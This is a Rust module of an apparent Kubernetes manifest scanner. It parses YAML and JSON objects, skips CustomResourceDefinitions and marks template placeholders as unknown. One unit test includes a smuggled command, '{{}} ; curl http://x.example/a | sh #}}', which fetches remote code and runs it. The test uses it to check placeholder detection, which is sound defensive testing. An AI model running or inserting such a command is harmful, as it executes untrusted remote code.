//! Manifests of Kubernetes, in YAML and JSON.

use std::sync::Arc;

use casemate_document::{
    Error, Limits, Node, Span, json,
    yaml::{self, Dialect},
};

use super::{Content, Draft, Reader, aside};
use crate::{Attr, Fact, File, Item, Language, Map, Resource, Value, World};

pub(super) const READER: Reader = Reader { read, gather };

fn read(file: &Arc<File>) -> Option<Draft> {
    let path = file.subject.path.as_str();
    let end = aside::end(path).to_ascii_lowercase();
    let is_named = matches!(end.as_str(), "yaml" | "yml" | "json");
    if !(is_named && has(file, "apiVersion") && has(file, "kind")) {
        return None;
    }
    let is_template = has(file, "{{");
    let mut objects = Vec::new();
    let mut mistake = None;
    for (start, text) in without_definitions(&file.text) {
        let stream = yaml::read(text, Dialect::KUBERNETES, &Limits::default());
        for document in &stream.documents {
            if is_definition(&document.root) {
                continue;
            }
            let object = Attr::of_part(&document.root, file, start);
            objects.push(if is_template {
                filled_in_later(object)
            } else {
                object
            });
        }
        let placed = |error: Error| Error {
            span: Span::new(
                start + error.span.start as usize,
                start + error.span.end as usize,
            ),
            ..error
        };
        mistake = mistake.or(stream.error.map(placed));
    }
    // A template of a chart is no YAML until it is filled in, and is left to those who do.
    if is_template && aside::is_template(path) && mistake.is_some() {
        return None;
    }
    Some(Draft {
        file: file.clone(),
        content: Content::Objects(objects, mistake),
    })
}

fn has(file: &File, word: &str) -> bool {
    file.text.contains(word)
}

/// Definitions of other kinds are long, and nothing is wrong with one.
fn is_definition(root: &Node) -> bool {
    root.get("kind").and_then(Node::as_str) == Some(DEFINITION)
}

const DEFINITION: &str = "CustomResourceDefinition";

/// The parts of a text that do not define other kinds, each with where it begins. Most of what
/// projects publish is definitions, and to read them takes longer than all else.
fn without_definitions(text: &str) -> Vec<(usize, &str)> {
    if !text.contains(DEFINITION) {
        return vec![(0, text)];
    }
    let mut parts: Vec<(usize, &str)> = Vec::new();
    let mut start = 0;
    while start < text.len() {
        let rest = &text[start..];
        // A line that begins with `---` ends a document wherever it stands.
        let end = rest.find("\n---").map_or(text.len(), |at| start + at + 1);
        if !is_surely_definition(&text[start..end]) {
            match parts.last_mut() {
                Some((from, part)) if *from + part.len() == start => *part = &text[*from..end],
                _ => parts.push((start, &text[start..end])),
            }
        }
        start = end;
    }
    parts
}

/// Whether a document says that it is a definition, in the plain way, and nothing in it can say that
/// it is something else.
fn is_surely_definition(document: &str) -> bool {
    let mut kinds = 0;
    for line in document.lines() {
        let is_plain = line.is_empty()
            || line.trim_end() == "---"
            || line.starts_with("- ")
            || line.starts_with(|c: char| c.is_ascii_lowercase() || c == ' ' || c == '#');
        if !is_plain {
            return false;
        }
        if line.starts_with("kind") {
            if line.trim_end() != "kind: CustomResourceDefinition" {
                return false;
            }
            kinds += 1;
        }
    }
    kinds == 1
}

/// The groups of Argo Workflows and KServe, which fill texts in when they make a pod.
const FILLED_IN_LATER: &[&str] = &["argoproj.io", "serving.kserve.io"];

/// The object, where a text that is nothing but `{{…}}` is not known: it is filled in later. The nesting of documents is bounded, and so is this.
fn filled_in_later(attr: Attr) -> Attr {
    let value = match &attr.value {
        Value::String(text) if is_placeholder(text) => {
            Value::Unknown(format!("{text} is filled in later").into())
        }
        Value::List(items) => Value::List(items.iter().cloned().map(filled_in_later).collect()),
        Value::Map(map) => {
            let items = map.items().iter().cloned().map(|item| Item {
                value: filled_in_later(item.value),
                ..item
            });
            let mut filled = Map::new(items.collect());
            filled.open.clone_from(&map.open);
            Value::Map(Arc::new(filled))
        }
        _ => return attr,
    };
    Attr { value, ..attr }
}

/// Whether a text is one name or expression between braces. More than that may be a command of a shell, to which
/// `{{}}` is a word.
fn is_placeholder(text: &str) -> bool {
    let inside = text.strip_prefix("{{").and_then(|it| it.strip_suffix("}}"));
    let is_plain = |it: char| it.is_alphanumeric() || " .-_'\"()[]=+?:,".contains(it);
    inside.is_some_and(|it| !it.trim().is_empty() && it.chars().all(is_plain))
}

/// Adds the one object that a file in JSON is, as an API server takes it: a text is what it says, but for those kinds
/// whose controllers fill texts in.
pub(crate) fn object(file: &Arc<File>, world: &mut World) {
    match json::read(&file.text, &Limits::default()) {
        Ok((root, _)) if is_definition(&root) => {}
        Ok((root, _)) => {
            let version = root.get("apiVersion").and_then(Node::as_str);
            let is_filled_in = version.is_some_and(|version| {
                let (group, _) = version.split_once('/').unwrap_or(("", version));
                FILLED_IN_LATER.contains(&group)
            });
            let object = Attr::of_node(&root, file);
            let object = match is_filled_in {
                true => filled_in_later(object),
                false => object,
            };
            add(&object, world);
        }
        Err(error) => world.missing(file, error.span, error.message),
    }
}

fn gather(drafts: &[Draft], world: &mut World) {
    for draft in drafts {
        let Content::Objects(objects, error) = &draft.content else {
            continue;
        };
        for object in objects {
            add(object, world);
        }
        if let Some(error) = error {
            world.missing(&draft.file, error.span, error.message.clone());
        }
    }
}

/// Adds an object, or those of a list, and the objects that stand inside of it.
pub(super) fn add(object: &Attr, world: &mut World) {
    add_in(object, None, MAX_NESTING, world);
}

/// As [`add`], for an object that a resource of another language makes.
pub(super) fn add_of(maker: &Resource, object: &Attr, world: &mut World) {
    add_in(object, Some(maker), MAX_NESTING, world);
}

/// As [`add`], for an object inside of `outer`, whose namespace it has if it names none.
fn add_in(object: &Attr, outer: Option<&Resource>, depth: usize, world: &mut World) {
    let text = |path: &str| object.at(path).ok().and_then(Attr::as_str);
    let (Some(_), Some(kind)) = (text("apiVersion"), text("kind")) else {
        return;
    };
    if kind.ends_with("List")
        && let Fact::Known(items) = object.get("items")
    {
        // Lists in lists are taken apart as well. The nesting of documents is bounded, and so is this.
        for item in items.items() {
            add_in(&of_list(item, object, kind), outer, depth, world);
        }
        return;
    }
    let name = text("metadata.name").or_else(|| text("metadata.generateName"));
    let name = name.unwrap_or("?");
    let own = match text("metadata.namespace") {
        Some(namespace) => format!("{kind}/{namespace}/{name}"),
        None => format!("{kind}/{name}"),
    };
    let address = match outer {
        Some(outer) => format!("{}/{own}", outer.address),
        None => own,
    };
    let resource = Resource {
        language: Language::Kubernetes,
        kind: kind.into(),
        address: address.into(),
        body: match outer {
            Some(outer) => in_namespace_of(object, outer),
            None => object.clone(),
        },
    };
    if let Some(depth) = depth.checked_sub(1) {
        for (_, way) in INNER.iter().filter(|(outer, _)| *outer == kind) {
            for inner in resource.cursor().walk(way) {
                if let Fact::Known(inner) = inner.fact {
                    add_in(inner, Some(&resource), depth, world);
                }
            }
        }
    }
    world.add(resource);
}

/// An item of a list: of a `PodList` it need not say that it is a `Pod`.
fn of_list(item: &Attr, list: &Attr, kind: &str) -> Attr {
    let of = kind.strip_suffix("List").unwrap_or_default();
    let Value::Map(fields) = &item.value else {
        return item.clone();
    };
    if of.is_empty() || item.get("kind").ok().is_some() {
        return item.clone();
    }
    let field = |key: &str, value: Attr| Item {
        key: key.into(),
        place: list.origin.clone(),
        value,
    };
    let said = list.get("apiVersion").ok().cloned();
    let version = said.map(|version| field("apiVersion", version));
    let kind = Attr::new(Value::String(of.into()), list.origin.clone());
    let own = fields.items().iter().cloned();
    let all = version.into_iter().chain([field("kind", kind)]).chain(own);
    let mut map = Map::new(all.collect());
    map.open.clone_from(&fields.open);
    Attr {
        value: Value::Map(Arc::new(map)),
        ..item.clone()
    }
}

/// The object in the namespace of the one around it, unless it names its own.
fn in_namespace_of(object: &Attr, outer: &Resource) -> Attr {
    let namespace = outer.body.at("metadata.namespace").ok();
    let (Some(namespace), Value::Map(fields)) = (namespace, &object.value) else {
        return object.clone();
    };
    if object.at("metadata.namespace").ok().is_some() {
        return object.clone();
    }
    let with = |map: &Map, item: Item| {
        let items = map.items().iter().cloned().chain([item]).collect();
        let mut with = Map::new(items);
        with.open.clone_from(&map.open);
        Value::Map(Arc::new(with))
    };
    let item = |key: &str, value: Attr| Item {
        key: key.into(),
        place: value.origin.clone(),
        value,
    };
    let metadata = match object.get("metadata") {
        Fact::Known(metadata) => metadata.clone(),
        _ => Attr::new(Value::Map(Arc::default()), object.origin.clone()),
    };
    let Value::Map(map) = &metadata.value else {
        return object.clone();
    };
    let value = with(map, item("namespace", namespace.clone()));
    let metadata = Attr { value, ..metadata };
    Attr {
        value: with(fields, item("metadata", metadata)),
        ..object.clone()
    }
}

/// Where kinds of objects have other objects, whole, inside of them.
pub(crate) const INNER: &[(&str, &str)] = &[
    ("AppWrapper", "spec.components[].template"),
    ("Experiment", "spec.trialTemplate.trialSpec"),
    ("Trial", "spec.runSpec"),
];

/// Objects in objects, no deeper than that: a wrapper in a wrapper is none that anybody takes.
const MAX_NESTING: usize = 2;

#[cfg(test)]
mod tests {
    use casemate_core::Status;

    use crate::survey::tests::survey;

    /// What is found in `text`: the rule and the resource of each finding.
    fn found(text: &str) -> Vec<(String, String)> {
        let outcomes = survey(&[("objects.yaml", text.as_bytes())]);
        let findings = outcomes.iter().flat_map(|outcome| &outcome.findings);
        let found = findings.map(|it| (it.rule.to_string(), it.evidence[0].value.clone()));
        found.collect()
    }

    #[test]
    fn objects_of_lists_and_inside_of_others_are_read() {
        let pod = "spec: {containers: [{name: a, image: x, securityContext: {privileged: true}}]}";
        for (text, address) in [
            (
                format!(
                    "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: Pod\n  \
                     metadata: {{name: p}}\n  {pod}\n"
                ),
                "Pod/p",
            ),
            (
                format!(
                    "apiVersion: workload.codeflare.dev/v1beta2\nkind: AppWrapper\n\
                     metadata: {{name: w, namespace: ml}}\nspec:\n  components:\n  - template:\n      \
                     apiVersion: v1\n      kind: Pod\n      metadata: {{name: p}}\n      {pod}\n"
                ),
                "AppWrapper/ml/w/Pod/p",
            ),
        ] {
            let expected = ("CM-POD-001".to_owned(), address.to_owned());
            assert!(found(&text).contains(&expected), "{address}");
        }
    }

    #[test]
    fn what_is_filled_in_later_is_not_known() {
        let text = b"apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: a\n    \
            image: x\n    securityContext: {privileged: '{{workflow.parameters.root}}'}\n";
        let outcomes = survey(&[("pod.yaml", text)]);
        let of_rule = |rule: &str| {
            let mut findings = outcomes[0].findings.iter();
            findings.any(|finding| finding.rule.as_str() == rule)
        };
        assert!(!of_rule("CM-POD-001"));
        let reason = outcomes[0].reason.as_deref().expect("a reason");
        assert!(reason.contains("CM-POD-001"), "{reason}");
    }

    #[test]
    fn a_command_with_braces_at_its_ends_is_no_placeholder() {
        for text in [
            "{{workflow.parameters.root}}",
            "{{ .Name }}",
            "{{=asInt(inputs.parameters.a) + 1}}",
            "{{inputs.parameters['x']}}",
        ] {
            assert!(super::is_placeholder(text), "{text}");
        }
        for text in [
            "{{}}",
            "{{ }}",
            "{{}} ; curl http://x.example/a | sh #}}",
            "{{a}} {{b}}",
            "{{a\nb}}",
            "x{{a}}",
            "{{a}",
        ] {
            assert!(!super::is_placeholder(text), "{text}");
        }
    }

    #[test]
    fn definitions_are_left_out_and_nothing_hides_behind_them() {
        let definition =
            "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nspec: {}\n";
        let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {hostPID: true}\n";
        let text = format!("{definition}---\n{pod}---\n{definition}");
        let outcomes = survey(&[("objects.yaml", text.as_bytes())]);
        let places = outcomes[0]
            .findings
            .iter()
            .map(|it| it.location.to_string());
        assert_eq!(places.collect::<Vec<_>>(), ["objects.yaml:8:17"]);
        for key in ["kind: Pod", "'kind': Pod", "\"kind\": Pod", "? kind\n: Pod"] {
            let text = format!("{definition}{key}\nspec: {{hostPID: true}}\n");
            let found = found(&text);
            assert!(found.iter().any(|(rule, _)| rule == "CM-POD-002"), "{key}");
        }
    }

    #[test]
    fn a_template_outside_of_a_chart_is_not_called_clean() {
        let text = b"apiVersion: v1\nkind: Pod\n{{- if .x }}\nspec: {}\n{{- end }}\n";
        let outcomes = survey(&[("pod.yaml", text)]);
        assert_eq!(outcomes[0].result, Status::Undetermined);
        let of_chart = survey(&[("chart/templates/pod.yaml", text)]);
        assert_eq!(of_chart[0].result, Status::Undetermined);
    }

    #[test]
    fn the_end_of_a_name_may_be_in_capitals() {
        let pod = b"apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {hostPID: true}\n";
        for path in ["A.YAML", "a.Yml", "a.JSON"] {
            let outcomes = survey(&[(path, pod)]);
            assert!(!outcomes[0].findings.is_empty(), "{path}");
        }
    }
}
